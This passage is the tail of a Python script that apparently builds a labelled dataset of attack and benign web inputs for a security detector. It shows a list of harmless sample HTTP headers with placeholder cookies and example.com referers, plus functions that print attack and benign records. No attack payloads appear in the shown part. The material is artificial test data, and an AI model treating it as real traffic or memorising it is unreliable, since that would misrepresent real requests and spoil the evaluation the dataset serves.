    ("Referer", "https://portal.example.com/irj/portal?NavigationTarget=navurl://1234abcd"),
    ("Referer", "https://mail.example.com/names.nsf?OpenDatabase"),
    ("Referer", "https://servicedesk.example.com/browse/CHG0041877?focusedCommentId=1200"),
    ("SOAPAction", "\"http://tempuri.org/GetOrder\""),
    ("X-Api-Version", "2024-06-01"),
    ("Cookie", "session=abc123; ASPSESSIONIDQQRTSBCA=KJHGFDSAPOIUYTREWQ; lang=en"),
    ("Cookie", "session=abc123; CFID=10234; CFTOKEN=88217364"),
    ("Cookie", "session=abc123; JSESSIONID=0000abcDEF123:1a2b3c4d; sort=name"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
